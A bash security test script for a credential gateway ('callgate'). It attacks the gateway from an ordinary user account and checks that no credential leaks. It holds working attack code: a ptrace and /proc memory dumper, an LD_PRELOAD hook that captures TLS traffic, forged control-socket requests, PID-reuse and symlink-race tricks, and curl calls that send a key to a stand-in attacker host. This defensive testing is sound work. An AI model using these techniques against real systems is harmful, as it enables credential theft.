#!/bin/bash
# What an attacker among a user's own programs can do.  A row each: no byte of the credential reaches it, it may no more than the
# grant gives any program of that user, and each call it makes is recorded with its own executable and digest.
. "$(dirname -- "$0")/setup.sh"
gate_up
has "control: alice's grant works" "$(call alice echo '{"message":"hello"}')" hello
has "control: with the real key" "$(cat "$LAB/mcp.log")" "Bearer $REAL_KEY"
mkdir -p "$LAB/m/a" "$LAB/loot" && chmod 777 "$LAB/loot" "$LAB/m/a"
# An executable of each row's own: curl with another tail, so that its digest tells which row made a call.
weapon() { cp /usr/bin/curl "$LAB/m/a/$1" && printf '%s' "$1" >>"$LAB/m/a/$1"; }
strike() { # ROW USER TOOL ARGUMENTS [curl options]
	local row=$1 user=$2 tool=$3 args=$4
	shift 4
	lab_as "$user" "$LAB/m/a/$row" -sS --max-time 10 -H "Authorization: Bearer $PLACEHOLDER" -H 'Content-Type: application/json' \
		-H 'Accept: application/json, text/event-stream' -d "$(rpc "$tool" "$args")" "$@" "$MCP" 2>&1 | tee -a "$LAB/loot/$row"
}
recorded() { # ROW [MORE CONDITION]
	local sum
	sum=$(sha256sum "$LAB/m/a/$1" | cut -d' ' -f1)
	lab_wait 3 lab_has_record ".kind==\"call\" and .exe==\"$LAB/m/a/$1\" and .exe_sha256==\"$sum\" and .uid==12001 ${2:+and $2}"
}
clean() { # ROW: what it got hold of
	local hit
	hit=$(grep -rlaF "$REAL_KEY" "$LAB/loot" "$LAB/home" 2>/dev/null)
	check "$1: no byte of the credential" test -z "$hit"
}
in_clear() { # NAME LOG: a server at port 80 of that host, which answers when this returns
	local at
	at=$(awk -v n="$1.lab.test" '$2 == n { print $1 }' /etc/hosts)
	lab_net "$BUILD/aids/mock_mcp" --listen "$at" --port 80 --log "$LAB/$2.log" 2>/dev/null &
	lab_wait 5 lab_net bash -c "exec 3<>/dev/tcp/$at/80" 2>/dev/null
}
pids=$(pgrep -P "$LAB_DAEMON" callgate-)

# ---- ptrace, /proc/PID/mem ----
cat >"$LAB/peek.py" <<'EOF'
import ctypes, os, sys
libc, out = ctypes.CDLL(None, use_errno=True), open(sys.argv[1], "wb")
for pid in map(int, sys.argv[2:]):
    r = libc.ptrace(16, pid, 0, 0)
    if r == 0:
        os.waitpid(pid, 0x40000000)
    got = 0
    try:
        for line in open("/proc/%d/maps" % pid):
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" in line and hi - lo < 1 << 28:
                with open("/proc/%d/mem" % pid, "rb", 0) as m:
                    m.seek(lo)
                    d = m.read(hi - lo)
                    got += len(d)
                    out.write(d)
    except OSError as e:
        print(pid, "mem", e.strerror)
    if r == 0:
        libc.ptrace(17, pid, 0, 0)
    print(pid, "attached" if r == 0 else "refused", got)
EOF
chmod 644 "$LAB/peek.py"
# shellcheck disable=SC2086 # a list
out=$(lab_as alice python3 "$LAB/peek.py" "$LAB/loot/service.mem" $pids 2>&1)
check "ptrace, mem: none of the service's processes can be traced or read" test "$(echo "$out" | grep -c 'refused 0$')" = "$(echo "$pids" | wc -w)"
weapon traced
lab_server other good --delay-ms 2000
callgate server add slow --host other.lab.test --path /mcp --credential mcp-key >/dev/null
callgate grant add --user alice --server slow --policy lab >/dev/null
lab_as alice "$LAB/m/a/traced" -sS --max-time 10 -H 'Content-Type: application/json' -H 'Accept: application/json' -d "$(rpc echo '{"message":"under-the-knife"}')" https://other.lab.test/mcp >"$LAB/loot/traced.out" 2>&1 &
lab_wait 5 grep -q "$REAL_KEY" "$LAB/other.log"
out=$(lab_as alice python3 "$LAB/peek.py" "$LAB/loot/client.mem" "$(pgrep -f "$LAB/m/a/traced" | head -1)" 2>&1)
has "ptrace, mem: a client of her own can be, while its call runs" "$out" attached
check "ptrace, mem: control: its memory was read" grep -qa under-the-knife "$LAB/loot/client.mem"
check "ptrace, mem: recorded" recorded traced '.server=="slow"'
clean "ptrace, mem"

# ---- LD_PRELOAD ----
cat >"$LAB/m/spy.c" <<'EOF'
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
static void keep(const void *p, long n)
{
	int fd = open(getenv("SPY"), O_WRONLY | O_CREAT | O_APPEND, 0666);
	if (n > 0 && write(fd, p, (size_t)n)) {}
	close(fd);
}
int SSL_read(void *s, void *p, int n) { int (*f)(void *, void *, int) = dlsym(RTLD_NEXT, "SSL_read"); n = f(s, p, n); keep(p, n); return n; }
int SSL_write(void *s, const void *p, int n) { int (*f)(void *, const void *, int) = dlsym(RTLD_NEXT, "SSL_write"); keep(p, n); return f(s, p, n); }
EOF
if cc -shared -fPIC -o "$LAB/m/a/spy.so" "$LAB/m/spy.c" -ldl 2>"$LAB/cc.err"; then
	weapon preloaded
	LAB_ENV="LD_PRELOAD=$LAB/m/a/spy.so SPY=$LAB/loot/spy" strike preloaded alice echo '{"message":"spied"}' >/dev/null
	check "LD_PRELOAD: control: it sees what the client sends and gets" grep -q spied "$LAB/loot/spy"
	check "LD_PRELOAD: recorded" recorded preloaded
	LAB_ENV="LD_PRELOAD=$LAB/m/a/spy.so SPY=$LAB/loot/spy2" lab_as alice "$BUILD/callgate" vault list >/dev/null 2>&1
	clean LD_PRELOAD
else
	echo "# LD_PRELOAD: no compiler here: $(head -1 "$LAB/cc.err")"
fi

# ---- a control client of its own ----
cat >"$LAB/fake.py" <<'EOF'
import json, socket
asks = [("vault.list", {}), ("vault.show", {"name": "mcp-key"}), ("vault.get", {"name": "mcp-key"}), ("server.add", {"server": {"name": "mine", "match": [{"host": "untrusted.lab.test"}], "credential": "mcp-key"}}),
        ("grant.add", {"grant": {"uid": 12001, "server": "mcp", "policy": "lab", "agent": "x"}}), ("status", {}), ("server.show", {"name": "mcp"}), ("grant.list", {}), ("ca.show", {})]
for do, args in asks:
    s = socket.socket(socket.AF_UNIX)
    s.connect("/run/callgate/control.sock")
    s.sendall(json.dumps({"do": do, "args": args}).encode() + b"\n")
    print(do, s.recv(1 << 20).decode())
s = socket.socket(socket.AF_UNIX)
s.connect("/run/callgate/control.sock")
s.sendall(b"\x00" * 16 + b"M_LEASE_GET mcp-key\n")
print(s.recv(1 << 20))
EOF
chmod 644 "$LAB/fake.py"
out=$(lab_as alice python3 "$LAB/fake.py" 2>&1 | tee "$LAB/loot/fake")
has "a control client: adding a server for the key is refused" "$out" 'server.add {"ok":false,"error":"denied"'
has "a control client: so is a grant" "$out" 'grant.add {"ok":false,"error":"denied"'
has "a control client: nothing shows a secret" "$out" 'vault.show {"ok":false,"error":"unknown-request"'
clean "a control client"

# ---- another user's grant token ----
g=$(callgate grant add --user bob --server mcp --policy lab --token)
weapon replayed
callgate grant revoke "$(callgate --json grant list --user alice --server mcp | jq -r '.grants[0].id')" >/dev/null
has "a replayed token: worth nothing to alice" "$(PLACEHOLDER=$(echo "$g" | sed -n 2p) strike replayed alice echo '{}')" '(no grant)'
check "a replayed token: recorded" recorded replayed '.verdict=="deny"'
clean "a replayed token"

# ---- a grant for one executable: copied, changed, and its process number used again ----
weapon right
sum=$(sha256sum "$LAB/m/a/right" | cut -d' ' -f1)
callgate grant add --user alice --server mcp --policy lab --exe-sha256 "$sum" >/dev/null
has "control: the executable of the grant may" "$(strike right alice echo '{"message":"right"}')" right
cp "$LAB/m/a/right" "$LAB/m/a/copied"
has "a copied executable is the same program" "$(strike copied alice echo '{"message":"copy"}')" copy
check "a copied executable: recorded under its own name" recorded copied
cp "$LAB/m/a/right" "$LAB/m/a/changed" && printf x >>"$LAB/m/a/changed"
has "one that was changed is another" "$(strike changed alice echo '{}')" '(identity mismatch)'
check "a changed executable: recorded with its own digest" recorded changed '.verdict=="deny"'
cat >"$LAB/reuse.py" <<'EOF'
# As one process number: first the executable of the grant, then another.
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
first, second, url, body = sys.argv[1:]
def run(exe, pid):
    want = struct.pack("i", pid)
    buf = ctypes.create_string_buffer(want)
    args = ctypes.create_string_buffer(struct.pack("QQQQQQQQQQQ", 0, 0, 0, 0, 17, 0, 0, 0, ctypes.addressof(buf) if pid else 0, 1 if pid else 0, 0))
    child = libc.syscall(435, args, 88) # clone3 with set_tid
    if child == 0:
        os.setgroups([]); os.setresgid(12001, 12001, 12001); os.setresuid(12001, 12001, 12001)
        os.execv(exe, [exe, "-sS", "--max-time", "10", "-H", "Content-Type: application/json", "-H", "Accept: application/json", "-d", body, url])
    if child < 0:
        print("clone3:", os.strerror(ctypes.get_errno()), flush=True)
        sys.exit(3)
    os.waitpid(child, 0)
    return child
pid = run(first, 0)
print("\nsame" if run(second, pid) == pid else "\nother", flush=True)
EOF
weapon reused
out=$(echo "$BASHPID" >"$LAB_CGROUP/user-alice/cgroup.procs"; CURL_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt python3 "$LAB/reuse.py" "$LAB/m/a/right" "$LAB/m/a/reused" "$MCP" "$(rpc echo '{"message":"one-number"}')" 2>&1)
has "a process number used again: control: it was" "$out" same
check "a process number used again: the first process was answered, the second was not" test "$(echo "$out" | grep -o 'one-number\|(identity mismatch)' | uniq | tr '\n' ' ')" = "one-number (identity mismatch) "
check "a process number used again: recorded as what it is" recorded reused '.verdict=="deny"'
clean "executables and process numbers"

# ---- the fake key of her configuration, carried elsewhere ----
callgate grant add --user alice --server mcp --policy lab >/dev/null
fake=$(callgate vault placeholder mcp-key --prefix ghp_ --for alice 2>"$LAB/fake.err")
id=$(grep -o 'p-[a-z0-9]\{8\}' "$LAB/fake.err")
check "a placeholder: looks like a key of its kind" bash -c '[[ $1 =~ ^ghp_[A-Za-z0-9]{36}$ ]]' - "$fake"
weapon thief
has "a placeholder: on the way to its own server it is nothing" "$(PLACEHOLDER=$fake strike thief alice echo '{"message":"home"}')" home
check "a placeholder: no alert" test "$(lab_records '.kind=="alert"' | wc -l)" = 0
printf %s another-key-111 | callgate vault set other-key >/dev/null
callgate server remove slow >/dev/null 2>&1 || { callgate grant revoke "$(callgate --json grant list --user alice --server slow | jq -r '.grants[0].id')" && callgate server remove slow; } >/dev/null
callgate server add slow --host other.lab.test --path /mcp --credential other-key >/dev/null
callgate grant add --user alice --server slow --policy lab >/dev/null
: >"$LAB/other.log"
has "a placeholder: refused at another server" "$(PLACEHOLDER=$fake MCP=https://other.lab.test/mcp strike thief alice echo '{"message":"away"}')" 'rule (placeholder)'
hasnt "a placeholder: it did not get there" "$(cat "$LAB/other.log")" away
has "a placeholder: refused as an argument, at its own server too" "$(strike thief alice echo "{\"message\":\"$fake\"}")" 'rule (placeholder)'
in_clear untrusted clear
lab_as alice "$LAB/m/a/thief" -sS --max-time 10 -H "Authorization: Basic $(printf 'x:%s' "$fake" | base64 -w0)" http://untrusted.lab.test/ >/dev/null 2>&1
hasnt "a placeholder: does not leave over plain HTTP" "$(cat "$LAB/clear.log" 2>/dev/null)" Basic
sum=$(sha256sum "$LAB/m/a/thief" | cut -d' ' -f1)
for at in '.server=="slow" and (.detail|endswith("head of a request"))' '.server=="mcp" and (.detail|endswith("body of a request"))' '.dst_host=="untrusted.lab.test" and (.detail|endswith("without TLS"))'; do
	check "a placeholder: an alert says who and where: $at" lab_wait 3 lab_has_record ".kind==\"alert\" and .event==\"placeholder\" and .cred==\"mcp-key\" and .uid==12001 and .exe_sha256==\"$sum\" and (.detail|startswith(\"placeholder $id, \")) and $at"
done
check "a placeholder: audit query finds them" test "$(callgate audit query --kind alert event=placeholder cred=mcp-key --count)" = 3
has "a placeholder: audit tail shows them" "$(callgate audit tail --kind alert)" '(placeholder)'
check "a placeholder: no record and no log has the key" bash -c '! grep -rF "$1" "$2" && ! zgrep -F "$1" /var/log/callgate/audit/*/* /var/lib/callgate/journal/*/*' - "${fake:4}" "$LAB/callgated.log"
has "a placeholder: alice cannot list them" "$(lab_as alice "$BUILD/callgate" vault placeholder --list 2>&1)" 'refused'
callgate vault placeholder --remove "$id" >/dev/null
has "a placeholder: removed, it is a text" "$(strike thief alice echo "{\"message\":\"$fake\"}")" "$fake"
callgate grant revoke "$(callgate --json grant list --user alice --server mcp | jq -r '.grants[] | select(.exe_sha256 == null) | .id')" >/dev/null

# ---- other servers ----
weapon misled
addr=$(awk '$2 == "untrusted.lab.test" { print $1 }' /etc/hosts)
lab_server untrusted untrusted
callgate grant add --user alice --server mcp --policy lab >/dev/null
out=$(strike misled alice echo '{}' --resolve "mcp.lab.test:443:$addr")
has "the registered name at another address: the server is not believed" "$out" "no credential was sent"
cp /etc/hosts "$LAB/hosts"
sed "s/^[0-9.]* mcp.lab.test/$addr mcp.lab.test/" "$LAB/hosts" >/etc/hosts
has "the registered name in /etc/hosts: neither" "$(strike misled alice echo '{}')" "no credential was sent"
cat "$LAB/hosts" >/etc/hosts
check "the registered name elsewhere: recorded" recorded misled
check "the registered name elsewhere: nothing was asked of the false server" test ! -s "$LAB/untrusted.log"
weapon plain
in_clear mcp plain
hasnt "plain HTTP: no answer of the server" "$(lab_as alice "$LAB/m/a/plain" -sS --max-time 5 -H 'Content-Type: application/json' -d "$(rpc echo '{"message":"in-the-clear"}')" http://mcp.lab.test/mcp 2>&1 | tee "$LAB/loot/plain")" '"content"'
check "plain HTTP: the request did not leave" bash -c "! grep -q . '$LAB/plain.log' 2>/dev/null"
check "plain HTTP: recorded" lab_wait 3 lab_has_record ".exe==\"$LAB/m/a/plain\" and .verdict==\"refuse\""
weapon redirected
lab_server shared good --redirect https://everything.lab.test/mcp
lab_server everything good # the attacker's: nobody registered it
callgate server add shared --host shared.lab.test --path /mcp --credential mcp-key >/dev/null
callgate grant add --user alice --server shared --policy lab >/dev/null
MCP=https://shared.lab.test/mcp strike redirected alice echo '{}' -L >/dev/null
has "a redirect: control: the server that redirects got the key" "$(cat "$LAB/shared.log")" "$REAL_KEY"
has "a redirect: control: the client followed it" "$(cat "$LAB/everything.log")" '"method":"tools/call"'
hasnt "a redirect: the other host did not get the key" "$(cat "$LAB/everything.log")" "$REAL_KEY"
check "a redirect: recorded" recorded redirected '.server=="shared"'

# ---- a server's file, exchanged by a link while root reads it: the key is sealed for its hosts ----
printf %s "$REAL_KEY" | callgate vault set sealed-key --only-for mcp.lab.test >/dev/null
echo '{"name":"swapped","match":[{"host":"mcp.lab.test","port":443,"path":"/swapped"}],"credential":"sealed-key"}' >"$LAB/loot/good.json"
echo '{"name":"swapped","match":[{"host":"everything.lab.test","port":443,"path":"/mcp"}],"credential":"sealed-key"}' >"$LAB/loot/evil.json"
lab_as alice bash -c 'cd "$LAB/loot" && while [ ! -e stop ]; do ln -sfn good.json server.json; ln -sfn evil.json server.json; done' &
for i in 1 2 3 4 5; do
	callgate server remove swapped >/dev/null 2>&1
	said=$(callgate --json server add --file "$LAB/loot/server.json" 2>&1 | jq -r '.server.match[0].host')
	check "a link exchanged, $i: what is in force is what was said" test "$said" = "$(callgate --json server show swapped | jq -r '.server.match[0].host')"
done
touch "$LAB/loot/stop"
callgate server remove swapped >/dev/null 2>&1
callgate server add --file "$LAB/loot/evil.json" >/dev/null
callgate grant add --user alice --server swapped --policy lab >/dev/null
weapon swapped
has "a link exchanged: the vault does not lend the key for the attacker's host" "$(MCP=https://everything.lab.test/mcp strike swapped alice echo '{}')" "the vault did not lend"
hasnt "a link exchanged: it did not get there" "$(cat "$LAB/everything.log")" "$REAL_KEY"
check "a link exchanged: recorded" recorded swapped
clean "other servers"
lab_end
